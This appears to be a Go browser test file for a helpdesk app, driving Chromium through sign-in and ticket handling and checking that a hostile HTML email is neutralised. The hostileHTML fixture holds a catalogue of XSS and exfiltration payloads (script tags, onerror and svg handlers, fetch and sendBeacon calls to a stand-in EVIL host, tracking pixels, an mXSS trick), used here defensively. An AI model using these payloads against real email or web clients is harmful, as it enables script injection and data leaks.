package web

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/postdesk/postdesk/internal/browsertest"
	"github.com/postdesk/postdesk/internal/mailmsg"
	"github.com/postdesk/postdesk/internal/store"
)

// requestLog records the requests a test server received.
type requestLog struct {
	mu    sync.Mutex
	paths []string
}

func (l *requestLog) wrap(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sw := &statusWriter{ResponseWriter: w, status: http.StatusOK}
		h.ServeHTTP(sw, r)
		l.mu.Lock()
		l.paths = append(l.paths, fmt.Sprintf("%s %s %d", r.Method, r.URL.RequestURI(), sw.status))
		l.mu.Unlock()
	})
}

func (l *requestLog) all() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.paths...)
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(code int) {
	w.status = code
	w.ResponseWriter.WriteHeader(code)
}

func do(t *testing.T, ctx context.Context, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatal(err)
	}
}

func eval[T any](t *testing.T, ctx context.Context, js string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](js))
	if err != nil {
		t.Fatalf("evaluate %s: %v", js, err)
	}
	return v
}

// TestBrowserAgentFlow signs in through the form, opens a ticket from the
// list, adds a note and solves the ticket, in a real Chromium.
func TestBrowserAgentFlow(t *testing.T) {
	e := newEnv(t)
	seedShowcase(t, e)
	id := e.showcaseID
	ctx := browsertest.New(t)

	// A signed-out visit to a ticket goes through the sign-in page and back.
	do(t, ctx, chromedp.Navigate(fmt.Sprintf("%s/tickets/%d", e.srv.URL, id)), chromedp.WaitVisible(chromedp.CSS("#email")))
	browsertest.Screenshot(t, ctx, "login")
	browsertest.ScreenshotAt(t, ctx, "login-phone", 390, 844)
	browsertest.Axe(t, ctx, "sign-in")
	browsertest.AxeAt(t, ctx, "sign-in at phone width", 375, 740)
	do(t, ctx,
		chromedp.SendKeys(chromedp.CSS("#email"), "nobody@example.com"),
		chromedp.SendKeys(chromedp.CSS("#password"), "wrong password"),
	)
	if _, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(`button[type="submit"]`))); err != nil {
		t.Fatal(err)
	}
	if msg := eval[string](t, ctx, `document.querySelector('#login-error').textContent`); msg != "Wrong email or password." {
		t.Fatalf("error shown = %q", msg)
	}
	browsertest.Screenshot(t, ctx, "login-error")
	browsertest.Axe(t, ctx, "sign-in with an error")
	eval[string](t, ctx, `document.querySelector('#email').value = ''`)
	do(t, ctx,
		chromedp.SendKeys(chromedp.CSS("#email"), "agent@example.com"),
		chromedp.SendKeys(chromedp.CSS("#password"), testPassword),
	)
	if _, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(`button[type="submit"]`))); err != nil {
		t.Fatal(err)
	}
	loc, _ := chromedp.Run(ctx, chromedp.Location())
	if !strings.HasSuffix(loc, fmt.Sprintf("/tickets/%d", id)) {
		t.Fatalf("after sign-in at %s", loc)
	}

	// The list.
	do(t, ctx, chromedp.Navigate(e.srv.URL+"/tickets"), chromedp.WaitVisible(chromedp.CSS(".ticket-table")))
	if n := eval[int](t, ctx, `document.querySelectorAll('.ticket-table tbody tr').length`); n < 3 {
		t.Fatalf("list shows %d tickets", n)
	}
	browsertest.Screenshot(t, ctx, "tickets")
	browsertest.ScreenshotAt(t, ctx, "tickets-phone", 390, 844)
	browsertest.Axe(t, ctx, "ticket list")
	browsertest.AxeAt(t, ctx, "ticket list at phone width", 375, 740)

	// Open the ticket from the list.
	if _, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(fmt.Sprintf(`a[href="/tickets/%d"]`, id)))); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, chromedp.WaitVisible(chromedp.CSS("iframe.mail-frame")))
	browsertest.Screenshot(t, ctx, "ticket")
	browsertest.ScreenshotAt(t, ctx, "ticket-phone", 390, 844)
	browsertest.Axe(t, ctx, "ticket page")
	browsertest.AxeAt(t, ctx, "ticket page at phone width", 375, 740)

	// An empty note is refused on the page.
	if _, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(".button-note"))); err == nil {
		// The textarea is not required (the server explains), so the form posts.
		if msg := eval[string](t, ctx, `(document.querySelector('#note-error')||{}).textContent||''`); msg != "The note is empty." {
			t.Errorf("empty note error = %q", msg)
		}
		browsertest.Axe(t, ctx, "ticket page with a form error")
	}
	// Add a note.
	do(t, ctx, chromedp.SendKeys(chromedp.CSS("#note-body"), "Asked the customer for the printer model."))
	if _, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(".button-note"))); err != nil {
		t.Fatal(err)
	}
	loc, _ = chromedp.Run(ctx, chromedp.Location())
	if !strings.Contains(loc, "#note-") {
		t.Errorf("after the note at %s", loc)
	}
	if txt := eval[string](t, ctx, `document.querySelector(location.hash).textContent`); !strings.Contains(txt, "Asked the customer for the printer model.") || !strings.Contains(txt, "Internal note") {
		t.Errorf("note shown as %q", txt)
	}
	// Solve it.
	if _, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(`button[name="status"][value="solved"]`))); err != nil {
		t.Fatal(err)
	}
	if s := eval[string](t, ctx, `document.querySelector('.ticket-meta .chip').textContent`); s != "Solved" {
		t.Errorf("status chip = %q", s)
	}
	if txt := eval[string](t, ctx, `document.querySelector('.timeline').textContent`); !strings.Contains(txt, "Status changed from open to solved by agent@example.com") {
		t.Error("the status change is not on the timeline")
	}
	browsertest.Screenshot(t, ctx, "ticket-after-note")
	browsertest.Axe(t, ctx, "ticket page after a note")

	// Error page and empty filter result, for the record.
	do(t, ctx, chromedp.Navigate(e.srv.URL+"/tickets/99999"))
	browsertest.Screenshot(t, ctx, "not-found")
	browsertest.Axe(t, ctx, "404 page")
	do(t, ctx, chromedp.Navigate(e.srv.URL+"/tickets?q=nothing-matches-this"))
	browsertest.Screenshot(t, ctx, "tickets-no-match")
	browsertest.Axe(t, ctx, "ticket list without a match")
	do(t, ctx, chromedp.Navigate(e.srv.URL+"/tickets?q="+url.QueryEscape(`printer "card declined`)))
	// The field takes the focus (autofocus) at the page's first rendering,
	// which a loaded machine may run after the load event.
	want := "The quote at character 9 is not closed: add the closing \" or remove it.|q"
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		txt := eval[string](t, ctx, `document.querySelector('#q-error').textContent + '|' + document.activeElement.id`)
		if txt == want {
			break
		}
		if time.Now().After(deadline) {
			t.Errorf("a search that cannot run: %q", txt)
			break
		}
	}
	browsertest.Screenshot(t, ctx, "tickets-search-error")
	browsertest.Axe(t, ctx, "ticket list with a search it cannot run")
}

// TestBrowserHostileEmail shows an email built to run script, navigate,
// and phone home, and checks in Chromium that nothing ran and nothing
// reached the other server: once through the sanitizer, and once with the
// sanitizer switched off, so the sandboxed frame and its CSP hold alone.
func TestBrowserHostileEmail(t *testing.T) {
	for _, tc := range []struct {
		name     string
		sanitize bool
		images   bool
	}{
		{"sanitized", true, false},
		{"sanitized with images allowed", true, true},
		{"sandbox only", false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			attacker := &requestLog{}
			evil := httptest.NewServer(attacker.wrap(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Access-Control-Allow-Origin", "*")
				w.Write([]byte("ok"))
			})))
			defer evil.Close()

			e := newEnv(t)
			if !tc.sanitize {
				e.h.sanitize = func(html string, _ mailmsg.SanitizeOptions) mailmsg.Sanitized { return mailmsg.Sanitized{HTML: html} }
			}
			ours := &requestLog{}
			srv := httptest.NewServer(ours.wrap(e.h))
			defer srv.Close()

			id, mid := e.ticket(store.Ticket{Subject: "Totally normal invoice", RequesterName: "Mallory", RequesterAddress: "mallory@evil.test"},
				store.Message{HTMLBody: hostileHTML(evil.URL), TextBody: "Dear support",
					Attachments: []store.Attachment{{Filename: "logo.png", ContentType: "image/png", Size: int64(len(tinyPNG)), SHA256: e.blob(tinyPNG), ContentID: "logo@x", Inline: true}}})

			ctx := browsertest.New(t)
			do(t, ctx, chromedp.Navigate(srv.URL+"/login"), chromedp.WaitVisible(chromedp.CSS("#email")),
				chromedp.SendKeys(chromedp.CSS("#email"), "agent@example.com"),
				chromedp.SendKeys(chromedp.CSS("#password"), testPassword))
			if _, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(`button[type="submit"]`))); err != nil {
				t.Fatal(err)
			}
			page := fmt.Sprintf("%s/tickets/%d", srv.URL, id)
			if tc.images {
				page += "?images=1"
			}
			do(t, ctx, chromedp.Navigate(page), chromedp.WaitVisible(chromedp.CSS("iframe.mail-frame")), chromedp.Sleep(1500*time.Millisecond))
			if tc.name == "sandbox only" {
				browsertest.Screenshot(t, ctx, "ticket-hostile-unsanitized")
				browsertest.Axe(t, ctx, "ticket page with a hostile email")
			}

			wantTitle := "#" + fmt.Sprint(id) + " Totally normal invoice · Postdesk"
			if title := eval[string](t, ctx, `document.title`); title != wantTitle {
				t.Errorf("document.title = %q: a script in the email ran", title)
			}
			if v := eval[string](t, ctx, `String(localStorage.getItem('pwned'))`); v != "null" {
				t.Errorf("localStorage flag = %q: a script in the email ran", v)
			}
			sandbox := eval[string](t, ctx, `document.querySelector('iframe.mail-frame').getAttribute('sandbox')`)
			if strings.Contains(sandbox, "allow-scripts") || strings.Contains(sandbox, "allow-same-origin") {
				t.Errorf("iframe sandbox = %q", sandbox)
			}
			// The frame is still the email (no meta refresh or navigation took it away).
			if n := eval[int](t, ctx, `document.querySelectorAll('iframe.mail-frame').length`); n != 1 {
				t.Errorf("%d email frames", n)
			}
			if got := attacker.all(); len(got) != 0 {
				t.Errorf("the hostile email reached another server %d times: %v", len(got), got)
			}
			// The inline cid: image loads from our server inside the sandbox.
			cid := fmt.Sprintf("GET /messages/%d/cid/logo@x?", mid)
			found := false
			for _, p := range ours.all() {
				found = found || strings.HasPrefix(p, cid) && strings.HasSuffix(p, " 200")
				if strings.Contains(p, "POST") && !strings.HasPrefix(p, "POST /login") {
					t.Errorf("the email posted to our server: %s", p)
				}
			}
			if tc.sanitize && !found {
				t.Errorf("inline image not loaded; our server saw %v", ours.all())
			}
		})
	}
}

// hostileHTML is an email that tries every way we know to run script, leave
// the frame, or fetch from evil (tracking pixels included).
func hostileHTML(evil string) string {
	return strings.ReplaceAll(`<html><head>
<meta http-equiv="refresh" content="0;url=EVIL/refresh">
<base href="EVIL/">
<title>pwned-title</title>
<link rel="stylesheet" href="EVIL/link.css"><link rel="prefetch" href="EVIL/prefetch">
<style>@import url(EVIL/import.css); body { background: url(EVIL/css-bg.png) } .x { width: expression(alert(1)) }</style>
<script>document.title='pwned';try{window.top.document.title='pwned-top'}catch(e){};try{localStorage.setItem('pwned','1')}catch(e){};try{parent.localStorage.setItem('pwned','1')}catch(e){};fetch('EVIL/fetch',{method:'POST',body:'x',mode:'no-cors'});navigator.sendBeacon&&navigator.sendBeacon('EVIL/beacon','x')</script>
<script src="EVIL/script.js"></script>
</head>
<body onload="document.title='pwned-onload';fetch('EVIL/onload')">
<p>Dear support, please pay the attached invoice.</p>
<img src="cid:logo@x" alt="logo">
<img src=x onerror="document.title='pwned-onerror';new Image().src='EVIL/onerror'">
<svg onload="document.title='pwned-svg';fetch('EVIL/svg')"><circle r="5"></circle></svg>
<a href="javascript:document.title='pwned-js'">click me</a>
<iframe src="EVIL/iframe"></iframe>
<img src="EVIL/pixel.gif" width="1" height="1">
<img src="EVIL/pixel-https-only.gif" srcset="EVIL/srcset.gif 2x">
<div style="background-image: url(EVIL/style-bg.png)">styled</div>
<form action="EVIL/form" method="post"><input name="a" value="b"><button autofocus>Pay</button></form>
<object data="EVIL/object"></object><embed src="EVIL/embed">
<video poster="EVIL/poster.png" src="EVIL/video.mp4" autoplay></video>
<audio src="EVIL/audio.mp3" autoplay></audio>
<table background="EVIL/table-bg.png"><tr><td>cell</td></tr></table>
<math><mtext><style><img src="EVIL/mxss" onerror="document.title='pwned-mxss'"></style></mtext></math>
</body></html>`, "EVIL", evil)
}

// tinyPNG is a 1x1 transparent PNG.
const tinyPNG = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
